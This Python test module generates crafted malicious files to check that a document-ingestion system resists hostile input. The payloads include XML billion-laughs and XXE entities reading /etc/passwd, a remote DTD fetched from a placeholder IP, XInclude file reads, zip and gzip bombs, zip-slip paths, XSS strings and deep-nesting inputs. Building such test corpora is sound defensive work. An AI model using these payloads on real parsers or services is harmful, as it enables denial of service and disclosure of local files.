"""Files made to hurt a reader: each is named after what it tries."""

from __future__ import annotations

import base64
import gzip
import json
import plistlib
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO

from tests.article import samples

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
FILE = "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>"
NETWORK = "<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd' [<!ENTITY % p SYSTEM 'http://192.0.2.1/p'> %p;]>"
QUADRATIC = f"<!DOCTYPE x [<!ENTITY q '{'q' * 50_000}'>]>"
MAIL_HEAD = b"From: a@b.example\nTo: c@d.example\nSubject: x\nDate: Mon, 3 Mar 2031 09:30:00 +0000\nMIME-Version: 1.0\n"


def texts() -> dict[str, bytes]:
    prose = samples.TEXT
    return {
        "nul.txt": prose[:200] + b"\x00" + prose[200:],
        "controls.txt": b"".join(bytes([code]) + prose for code in range(1, 32)),
        "bidi.txt": "\u202e\u2066\u200b".join(prose.decode()).encode(),
        "unseen.txt": "\u200b\u2060\ufeff\U000e0041".encode() * 9_000,
        "latin.txt": bytes(range(128, 256)) * 300,
        "half utf-16.txt": "\ufeff".encode("utf-16-le") + prose.decode().encode("utf-16-le")[:-1],
        "surrogates utf-16.txt": b"\xff\xfe" + b"\x00\xd8" * 400,
        "utf-32.txt": samples.BODY.encode("utf-32"),
        "utf-7.txt": samples.BODY.encode("utf-7"),
        "one long line.txt": b"a" * 4_900_000,
        "one long line of words.txt": b"word " * 900_000,
        "no spaces.txt": "章".encode() * 900_000,
        "stars.md": b"*" * 400_000,
        "brackets.md": b"[" * 400_000,
        "links.md": b"[a](" * 100_000,
        "dates.txt": b"12 March 2031 at 9:30 " * 40_000,
        "lines.txt": b"a\n" * 99_000,
        "quotes.txt": "“".encode() * 100_000,
        "combining.txt": ("a" + "\u0301" * 5_000).encode() * 20,
    }


def pages() -> dict[str, bytes]:
    prose = samples.BODY.encode()
    inside = b"<html><body><p>" + prose + b"</p>"
    return {
        "deep.html": b"<html><body>" + b"<div>" * 10_000 + prose,
        "deep and closed.html": b"<html><body>" + b"<b><i>" * 5_000 + prose + b"</i></b>" * 5_000,
        "deep lists.html": b"<html><body>" + b"<ul><li>" * 10_000 + prose,
        "deep tables.html": b"<html><body>" + b"<table><tr><td>" * 4_000 + prose,
        "lists.html": b"<html><body>" + b"<ul><li>a</ul>" * 40_000,
        "paragraphs.html": inside + b"<p>a</p>" * 90_000,
        "unclosed.html": inside + b"<p>x" * 20_000,
        "attribute.html": b"<html><body><p class='" + b"a" * 2_000_000 + b"'>" + prose,
        "attributes.html": b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(60_000)) + b">" + prose,
        "comment.html": inside + b"<!--" + b"-" * 500_000,
        "script.html": b"<html><body><script>" + b"document.write('x');" * 9_000 + b"</script></body></html>",
        "data.html": inside + b"<img src='data:image/png;base64," + b"A" * 2_000_000 + b"'>",
        "hidden.html": b"<html><body>" + b"<p style='display:none'>" + prose + b"</p></body></html>",
        "entities.html": inside + b"&#0;&#xD800;&#x110000;&#99999999999;&notit;" * 5_000,
        "laughs.html": b"<!DOCTYPE html>" + LAUGHS.encode() + inside + b"&a9;</body></html>",
        "frames.html": b"<html><frameset>"
        + b"<frame src='file:///etc/passwd'>" * 2_000
        + b"</frameset></html>",
        "lt.html": b"<html><body>" + b"<" * 400_000,
        "json-ld.html": b"<html><head><script type='application/ld+json'>"
        + b"[" * 50_000
        + b"</script></head>"
        + inside,
        "spaced json-ld.html": b"<html><head><script type='application/ld+json'>"
        b'{"a": "' + b" ;" * 50_000 + b'"}</script></head>' + inside,
        "charset.html": b"<html><head><meta charset='zlib'></head>" + inside,
        "charset utf-16.html": b"<html><head><meta charset='utf-16'></head>" + inside,
        "wide.html": ("\ufeff" + samples.HTML.decode()).encode("utf-16-be"),
        "empty.html": b"<html></html>",
        "google.html": b"<html><body class='doc-content'>"
        + b"<div><a id='cmnt1'>x</a><a id='cmnt_ref1'>" * 120
        + prose,
        "many google.html": b"<html><body class='doc-content'>"
        + b"<div><a id='cmnt1'>x</a></div>" * 40_000
        + prose,
        "letter.html": inside + b"<a href='x'>unsubscribe" + b"<a <a href=" * 60_000,
        "marks.html": inside + b"<sup>[1]</sup>" * 40_000,
        "saved.html": b"<html><!-- saved from url=(0000)" + b"http://" * 60_000 + inside,
        "embedded.html": inside + b"data:a/b;base64," * 60_000,
        "svg.html": inside + b"<svg>" + b"<g>" * 9_000 + b"<text>x</text></svg>",
    }


def xml() -> dict[str, bytes]:
    found = {}
    for kind, whole, at in (
        ("rss", samples.rss(2), b"<rss"), ("nitf", samples.NITF.replace(b'<!DOCTYPE nitf SYSTEM "nitf-3-6.dtd">', b""), b"<nitf"),
        ("newsml", samples.newsml(1), b"<newsMessage"), ("atom", samples.atom(2), b"<feed"),
    ):  # fmt: skip
        for name, doctype in (
            ("laughs", LAUGHS),
            ("file", FILE),
            ("network", NETWORK),
            ("quadratic", QUADRATIC),
        ):
            reference = {"laughs": b"&a9;", "file": b"&f;", "quadratic": b"&q;" * 9_000}.get(name, b"")
            found[f"{name}.{kind}"] = whole.replace(at, doctype.encode() + at, 1).replace(
                b"Berth", reference + b"Berth"
            )
        # The same, too far into the file for whoever looks at its first bytes only.
        found[f"late laughs.{kind}"] = whole.replace(
            at, b"<!--" + b"x" * 20_000 + b"-->" + LAUGHS.encode() + at, 1
        ).replace(b"Ferries", b"&a9;")
        found[f"deep.{kind}"] = whole.replace(b"<p>", b"<p>" + b"<em>" * 10_000, 1)
        found[f"wide.{kind}"] = whole.decode().replace('encoding="UTF-8"', "").encode("utf-16")
        found[f"latin.{kind}"] = whole.decode().encode("cp1252", "replace")
        found[f"twice.{kind}"] = whole + whole
    return {
        **found,
        "many.rss": b"<rss><channel>"
        + b"<item><title>x</title><description>y</description></item>" * 20_000
        + b"</channel></rss>",
        "open.rss": b"<rss><channel><item><title>" + b"<" * 200_000,
        "cdata.rss": b"<rss><channel><item><title>" + b"<![CDATA[" * 50_000,
        "ampersands.rss": b"<rss><channel><item><description>" + b"a &" * 200_000,
        "deep entry.rss": b"<rss><channel><item><description>"
        + b"&lt;div&gt;" * 20_000
        + b"x</description></item></channel></rss>",
        "xinclude.nitf": samples.NITF.replace(
            b"<block>",
            b"<block><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>",
        ),
        "unknown.xml": b"<?xml version='1.0'?><invoice><p>Pay me.</p></invoice>",
        "picture.g2": samples.newsml().replace(b"ninat:text", b"ninat:picture"),
    }


def zeros(millions: int) -> bytes:
    """So many of them as one gzip stream: behind a full flush each million is the same block (RFC 1951, 1952)."""
    packing = zlib.compressobj(9, wbits=-15)
    one = bytes(1_000_000)
    block = packing.compress(one) + packing.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(millions):
        checksum = zlib.crc32(one, checksum)
    head, end = b"\x1f\x8b\x08" + bytes(6) + b"\xff", b"\x03\x00"
    return head + block * millions + end + struct.pack("<LL", checksum, millions * len(one))


@cache  # a second, and the corpus is made several times
def archives() -> dict[str, bytes]:
    bomb = zeros(300)
    prose = samples.zipped({"a.txt": samples.TEXT, "b.txt": samples.jsonl(1)})
    nested = samples.TEXT
    for _ in range(30):
        nested = samples.zipped({"a.zip": nested})
    gzips = samples.TEXT
    for _ in range(60):
        gzips = gzip.compress(gzips, mtime=0)
    directory = prose.rindex(b"PK\x01\x02")
    return {
        "bomb.gz": bomb,
        "bomb.zip": samples.zipped({"a.txt": bytes(60_000_000)}),
        "bombs.zip": samples.zipped({f"{n}.txt": b"a " * 2_000_000 for n in range(20)}),
        "bomb in a bomb.zip": samples.zipped({"a.gz": bomb, "b.txt": samples.TEXT}),
        "nested.zip": nested,
        "nested.gz": gzips,
        "many.zip": samples.zipped({f"{n}.txt": b"x" for n in range(2_000)}),
        "very many.zip": samples.zipped({f"{n}": b"" for n in range(60_000)}),
        "lies.zip": prose.replace(struct.pack("<I", len(samples.TEXT)), struct.pack("<I", 0x7FFFFFFF)),
        "lies less.zip": prose.replace(struct.pack("<I", len(samples.TEXT)), struct.pack("<I", 10)),
        "locked.zip": prose[: directory + 8] + b"\x01" + prose[directory + 9 :],
        "overlapping.zip": prose[: directory + 42] + bytes(4) + prose[directory + 46 :],
        "method.zip": _other_method(),
        "outside.zip": samples.zipped(
            {"../../etc/passwd": samples.TEXT, "/etc/cron.d/x": samples.JSON, "C:\\x.txt": samples.HTML}
        ),
        "names.zip": samples.zipped(
            {"\u202egnp.txt": samples.TEXT, "a\nb.txt": samples.TEXT, "x" * 5_000: samples.TEXT}
        ),
        "pictures.zip": samples.zipped(
            {"a.png": b"\x89PNG\r\n\x1a\n", "__MACOSX/a.txt": samples.TEXT, ".a.txt": samples.TEXT}
        ),
        "cut.zip": prose[:-30],
        "directory only.zip": prose[directory:],
        "empty.zip": samples.zipped({}),
        "tail.gz": samples.gzipped(samples.TEXT) + b"garbage" * 100,
        "members.gz": samples.gzipped(b"a") * 5_000,
        "cut.gz": samples.gzipped(samples.TEXT)[:-20],
        "sheet.xlsx": samples.zipped({"xl/workbook.xml": b"<x/>"}),
        "book.epub": samples.zipped({"mimetype": b"application/epub+zip"}),
        **_word(),
    }


def _other_method() -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr(zipfile.ZipInfo("a.txt"), bytes(20_000_000), zipfile.ZIP_LZMA)
    return written.getvalue()


def _word() -> dict[str, bytes]:
    good = samples.docx()
    with zipfile.ZipFile(BytesIO(good)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    text = files["word/document.xml"]
    start = text.index(b"<w:document")
    changes = {
        "laughs": text[:start] + LAUGHS.encode() + text[start:].replace(b"Ferries", b"&a9;"),
        "file": text[:start] + FILE.encode() + text[start:].replace(b"Ferries", b"&f;"),
        "deep": text.replace(b"<w:body>", b"<w:body>" + b"<w:sdt><w:sdtContent>" * 5_000, 1),
        "long": text.replace(b"Ferries", b"Ferries " * 900_000, 1),
        "many": text.replace(b"<w:body>", b"<w:body>" + b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 60_000, 1),
        "empty": b"",
        "other": b"<html/>",
    }
    found = {
        f"{name}.docx": samples.zipped({**files, "word/document.xml": changed})
        for name, changed in changes.items()
    }
    without = {name: data for name, data in files.items() if name != "[Content_Types].xml"}
    return {
        **found,
        "typeless.docx": samples.zipped(without),
        "word only.docx": samples.zipped({"word/document.xml": text}),
    }


def mails() -> dict[str, bytes]:
    prose = samples.BODY.encode()
    nested = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(3_000)
    )
    forwarded = samples.mail()
    for _ in range(20):
        forwarded = MAIL_HEAD + b"Content-Type: message/rfc822\n\n" + forwarded
    parts = b"".join(b"--b\nContent-Type: text/html\n\n<p>x</p>\n" for _ in range(5_000))
    return {
        "deep.eml": MAIL_HEAD + nested + prose,
        "forwarded.eml": forwarded,
        "parts.eml": MAIL_HEAD + b"Content-Type: multipart/mixed; boundary=b\n\n" + parts,
        "subject.eml": MAIL_HEAD.replace(b"Subject: x", b"Subject: " + b"=?utf-8?q?=C3?= " * 60_000)
        + b"\n"
        + prose,
        "recipients.eml": MAIL_HEAD.replace(b"c@d.example", b"(((" * 50_000 + b"<a@b>, " * 20_000)
        + b"\n"
        + prose,
        "headers.eml": MAIL_HEAD + b"X-A: b\n" * 100_000 + b"\n" + prose,
        "type.eml": MAIL_HEAD + b"Content-Type: text/html; " + b"a*0*=b; " * 30_000 + b"\n\n" + prose,
        "charset.eml": MAIL_HEAD + b"Content-Type: text/plain; charset=idna\n\n" + b"xn--" + b"a" * 300_000,
        "charset two.eml": MAIL_HEAD + b'Content-Type: text/plain; charset="\xff\xfe"\n\n' + prose,
        "base64.eml": MAIL_HEAD + b"Content-Transfer-Encoding: base64\n\n" + b"!" * 90_000,
        "quoted.eml": MAIL_HEAD + b"Content-Transfer-Encoding: quoted-printable\n\n" + b"=" * 400_000,
        "uu.eml": MAIL_HEAD + b"Content-Transfer-Encoding: x-uuencode\n\nbegin 644 a\n" + b"\xff" * 9_000,
        "boundary.eml": MAIL_HEAD + b"Content-Type: multipart/mixed\n\n" + prose,
        "filename.eml": samples.mail("x", attached={"a" * 3_000 + ".txt": samples.TEXT}),
        "itself.eml": MAIL_HEAD + b"Content-Type: message/rfc822\n\n",
        "gz.eml": samples.mail("x", attached={"a.gz": gzip.compress(bytes(40_000_000), mtime=0)}),
        "heads.eml": MAIL_HEAD + b"\n" + b"From: a@b.example\nDate: 3 March 2031\n\n" * 20_000 + prose,
        "letters.eml": MAIL_HEAD + b"\n" + b"-----\nFrom: a\nDate: b\nSubject: c\n\nx\n" * 10_000 + prose,
        "marks.eml": MAIL_HEAD + b"\n" + (b"-" * 110 + b"\n") * 20_000 + b"From: a\n" * 20_000 + prose,
        "stories.eml": samples.mail(
            "x",
            html="<h2><a href='http://a.example/1'>A title of a story</a></h2><p>Some words of it.</p>"
            * 9_000,
        ),
        "titles.eml": samples.mail("x", html="<b>A title of a story</b><br>" * 20_000),
        "links.eml": samples.mail("x", html="<p>" + "<a href='http://a.example/1'>one</a> " * 60_000),
        "addresses.eml": MAIL_HEAD
        + b"\n"
        + b"A title of one\n\nSome words.\n\nhttp://a.example/1\n\n" * 10_000,
        "one address.eml": MAIL_HEAD + b"\n" + b"http://a.example/" * 60_000,
        "deep html.eml": samples.mail("", html="<div>" * 9_000 + "x"),
        "quoting.eml": MAIL_HEAD + b"\n" + b">" * 300_000,
        "forwards.eml": MAIL_HEAD
        + b"\n"
        + b"---------- Forwarded message ---------\nFrom: a\nSubject: b\n" * 9_000,
        "bounce.eml": MAIL_HEAD + b"Content-Type: message/delivery-status\n\nAction: failed\n",
        "related.mhtml": MAIL_HEAD
        + b"Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: image/png\n\nx\n--b--\n",
        "deep.mhtml": MAIL_HEAD + nested + samples.HTML,
        "inside.eml": samples.mail(
            "x", attached={"a.html": base64.b64decode(b"PGh0bWw+"), "b.pdf": b"%PDF-1.7"}
        ),
    }


def records() -> dict[str, bytes]:
    return {
        "deep.json": b"[" * 100_000 + b"]" * 100_000,
        "deep objects.json": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "deep later.json": b'{"text": "x", "b":' + b"[" * 100_000,
        "digits.json": b'{"text": ' + b"9" * 100_000 + b"}",
        "types.json": json.dumps(
            {"title": [1], "text": {"a": 1}, "url": 5, "author": [[["x"]]], "published": {}}
        ).encode(),
        "types too.json": json.dumps(
            {**samples.RECORD, "byline": [{"name": [1]}], "source": {"name": {"name": 1}}, "url": []}
        ).encode(),
        "surrogates.json": b'{"title": "\\ud800", "text": "\\udfff' + samples.PARAGRAPHS[1].encode() + b'"}',
        "nul.json": json.dumps(
            {**samples.RECORD, "title": "a\x00\x1b[31m\u202e", "byline": "x\n" * 900}
        ).encode(),
        "nan.json": b'[NaN, Infinity, null, true, "x", {}]',
        "empty.json": b"[]",
        "many.json": json.dumps([{"text": "x"}] * 30_000).encode(),
        "cut.json": samples.JSON[:-5],
        "broken.jsonl": samples.jsonl(3) + b"{broken\n" + samples.jsonl(2),
        "wide.json": samples.JSON.decode().encode("utf-16"),
        "future.json": json.dumps({**samples.RECORD, "published": "2150-01-01"}).encode(),
        "script.json": json.dumps(
            {**samples.RECORD, "url": "javascript:alert(1)", "text": "<script>alert(1)</script>" * 900}
        ).encode(),
        "chars.json": json.dumps(
            [{"text": "a. " * 300_000 + "[+9 chars]"}, {"text": "\u2026" * 300_000 + "[+9 chars]"}]
        ).encode(),
        "keys.json": ("{" + ",".join(f'"{n}":1' for n in range(90_000)) + ',"text":"x"}').encode(),
    }


@cache
def offices() -> dict[str, bytes]:
    """OpenDocument texts, Rich Text documents and e-books."""
    good = {"odt": ("content.xml", samples.odt()), "epub": ("OEBPS/text/one.xhtml", samples.epub())}
    found = {}
    for kind, (name, data) in good.items():
        with zipfile.ZipFile(BytesIO(data)) as archive:
            files = {each: archive.read(each) for each in archive.namelist()}
        text = files[name]
        start = text.index(b"<", 5)
        for what, changed in {
            "laughs": text[:start] + LAUGHS.encode() + text[start:].replace(b"Ferries", b"&a9;"),
            "file": text[:start] + FILE.encode() + text[start:].replace(b"Ferries", b"&f;"),
            "quadratic": text[:start] + QUADRATIC.encode() + text[start:].replace(b"Ferries", b"&q;" * 9_000),
            "deep": text.replace(b"The harbour", b"<text:span>" * 9_000 + b"The harbour", 1),
            "long": text.replace(b"Ferries", b"Ferries " * 900_000, 1),
            "bomb": text.replace(b"Ferries", b" " * 49_000_000, 1),
            "empty": b"",
            "no text": b"<x/>",
            "cut": text[: len(text) // 2],
            "wide": text.decode().replace('encoding="UTF-8"', "").encode("utf-16"),
        }.items():
            found[f"{what}.{kind}"] = samples.zipped({**files, name: changed})
    package, container = "OEBPS/book.opf", "META-INF/container.xml"
    spine = b"<itemref idref='i2'/>" * 90_000 + b"</spine>"
    chapters = {f"text/{n}.xhtml": f"<h1>A{n}</h1><p>{samples.BODY}</p>" for n in range(1_500)}
    for what, changed in {
        "same": {package: files[package].replace(b"</spine>", spine)},
        "no package": {container: files[container].replace(b"book.opf", b"../../../etc/passwd")},
        "container": {container: LAUGHS.encode() + b"<x>&a9;</x>"},
        "itself": {package: files[package].replace(b"text/one.xhtml", b"book.opf")},
    }.items():
        found[f"{what}.epub"] = samples.zipped({**files, **changed})
    return {**found, "chapters.epub": samples.epub(chapters), **_rich(), **_safari()}


def _safari() -> dict[str, bytes]:
    def packed(whole: object) -> bytes:
        return plistlib.dumps(whole, fmt=plistlib.FMT_BINARY)

    nested: object = "WebMainResource"
    for _ in range(300):
        nested = [nested]
    return {
        "deep.webarchive": packed(nested),
        "list.webarchive": packed(["WebMainResource"] * 50_000),
        "types.webarchive": packed({"WebMainResource": {"WebResourceData": "text", "WebResourceURL": 5}}),
        "empty.webarchive": packed({"WebMainResource": {"WebResourceData": b" "}}),
        "offsets.webarchive": samples.webarchive()[:-8] + b"\xff" * 8,
        "counts.webarchive": samples.webarchive()[:-24] + b"\x7f" * 8 + samples.webarchive()[-16:],
    }


def _rich() -> dict[str, bytes]:
    good = samples.rtf()

    def inside(text: str) -> bytes:
        return samples.rtf(inside=text)

    return {
        "deep.rtf": inside("{" * 100_000),
        "closed.rtf": inside("}" * 100_000),
        "open links.rtf": inside(r"{\field{\*\fldinst{" * 20_000),
        "links.rtf": inside(r'{\field{\*\fldinst{ HYPERLINK "a" HYPERLINK "a" }}{' * 9_000),
        "fonts.rtf": good.replace(b"{\\f1", b"{\\f1" * 40_000),
        "open fonts.rtf": good.replace(b"{\\f1", b"\\f1\\fcharset0 " * 20_000),
        "long font.rtf": good.replace(b"Times", b"x\\fcharset0 " * 40_000).replace(b";", b""),
        "font tables.rtf": inside(r"{\fonttbl" * 20_000),
        "groups.rtf": inside(r"{\a\b\c\d\e\f\g" * 20_000),
        "digits.rtf": inside(r"\u" + "9" * 100_000),
        "unicode.rtf": inside(r"\u55357?\u-1?\u0?\u9999999999?" * 9_000),
        "bin.rtf": inside(r"{\pict\bin" + "9" * 5_000 + " x}"),
        "bins.rtf": inside(r"{\pict\bin5 abcde}" * 9_000),
        "hex.rtf": inside(r"\'zz\'f" * 50_000 + r"\'ff" * 50_000),
        "charset.rtf": good.replace(b"ansicpg1252", b"ansicpg99999"),
        "zlib.rtf": good.replace(b"ansicpg1252", b"ansicpg037"),
        "picture.rtf": inside(r"{\pict " + "ab" * 20_000_000 + "}"),
        "long.rtf": inside("word " * 1_200_000),
        "slashes.rtf": inside("\\" * 100_000),
        "head.rtf": b"{\\rtf",
    }


CRAFTED: tuple[Callable[[], dict[str, bytes]], ...] = (texts, pages, xml, archives, offices, mails, records)
